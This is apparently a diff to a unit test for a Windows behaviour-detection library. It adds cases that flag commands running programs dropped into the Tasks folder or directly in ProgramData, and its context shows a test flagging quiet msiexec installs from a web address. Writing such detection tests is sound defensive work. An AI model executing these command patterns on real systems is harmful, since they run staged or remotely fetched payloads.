@@ -95,6 +95,16 @@ class BehavioursTest {
     }
 
     @Test
+    void aProgramStartedFromTheTaskFolderOrRightInProgramDataIsADropFolderProgram() {
+        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "cmd /c C:\\Windows\\Tasks\\x.bat", true)).isTrue();
+        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "cmd /c C:\\ProgramData\\svc.exe -k", true)).isTrue();
+        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "cmd /c %ProgramData%\\upd.cmd", true)).isTrue();
+        // installed agents live in ProgramData's subfolders
+        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "cmd /c C:\\ProgramData\\chocolatey\\bin\\choco.exe upgrade all -y", true)).isFalse();
+        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "cmd /c C:\\Tools\\backup.bat", true)).isFalse();
+    }
+
+    @Test
     void msiexecFromAWebAddressCountsWhenUnattendedOrNotAPackage() {
         assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "msiexec /q /i https://files.example.net/agent.msi", true)).isTrue();
         assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "msiexec.exe /i https://files.example.net/agent.msi /quiet", true)).isTrue();
